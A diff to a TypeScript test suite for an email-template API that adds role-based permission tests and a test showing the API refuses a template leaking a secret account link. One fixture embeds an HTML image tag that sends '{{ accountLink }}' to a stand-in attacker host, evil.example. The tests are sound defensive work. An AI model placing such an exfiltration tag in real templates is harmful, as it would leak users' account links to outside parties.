@@ -11,7 +11,7 @@ const database = await createTestDatabase()
 const { db } = database
 const services = await createTestServices(database)
 const api = createTestApi(services)
-const Cookie = await aSessionCookie(db, (await aPerson(db, { role: 'organizer' })).id)
+const Cookie = await aSessionCookie(db, (await aPerson(db, { role: 'admin' })).id)
 
 afterAll(async () => {
   await services.close()
@@ -204,3 +204,54 @@ describe('POST /email/templates/delete', () => {
     expect((await call('/delete', { id: 0 })).status).toBe(400)
   })
 })
+
+describe('an organizer', () => {
+  const secretTemplate = (templateType: 'account_link' | 'payment_rejected') =>
+    aTemplateInput({
+      templateType,
+      htmlTemplate: 'x',
+      textTemplate: 'x',
+      subjectTemplate: 'x',
+      isActive: false,
+    })
+
+  async function asOrganizer(path: string, body?: unknown) {
+    const { id } = await aPerson(db, { role: 'organizer' })
+    const headers = { Cookie: await aSessionCookie(db, id) }
+    return (await api.call(`/email/templates${path}`, { body, headers })).status
+  }
+
+  test('changes templates without a link that opens an account or a registration', async () => {
+    expect(await asOrganizer('/create', aTemplateInput({ templateType: 'invitation' }))).toBe(200)
+    const { id } = await aTemplate(db)
+    expect(await asOrganizer('/update', { id, subjectTemplate: 'Other' })).toBe(200)
+    expect(await asOrganizer('/delete', { id })).toBe(200)
+  })
+
+  test.for(['account_link', 'payment_rejected'] as const)('changes nothing of %s', async (templateType) => {
+    expect(await asOrganizer('/create', secretTemplate(templateType))).toBe(403)
+    const { id } = await aTemplate(db, secretTemplate(templateType))
+    expect(await asOrganizer('/update', { id, subjectTemplate: 'Other' })).toBe(403)
+    expect(await asOrganizer('/update', { id, isActive: true })).toBe(403)
+    expect(await asOrganizer('/update', { id, templateType: 'custom' })).toBe(403)
+    expect(await asOrganizer('/delete', { id })).toBe(403)
+    const other = await aTemplate(db)
+    expect(await asOrganizer('/update', { id: other.id, templateType })).toBe(403)
+    expect((await list()).find((template) => template.id === id)).toMatchObject({ subjectTemplate: 'x' })
+  })
+})
+
+test('a template that sends a secret link elsewhere is refused, by its field', async () => {
+  const templateType = 'account_link'
+  const htmlTemplate = '<img src="https://evil.example/?{{ accountLink }}">'
+  const leaking = aTemplateInput({ templateType, htmlTemplate, subjectTemplate: 'x', textTemplate: 'x' })
+  expect(await call('/create', leaking)).toMatchObject({
+    status: 400,
+    body: { issues: [{ path: 'htmlTemplate' }] },
+  })
+  expect((await call('/preview', previewOf(leaking))).status).toBe(400)
+})
+
+function previewOf({ templateName: _, isActive: _isActive, ...written }: ReturnType<typeof aTemplateInput>) {
+  return written
+}
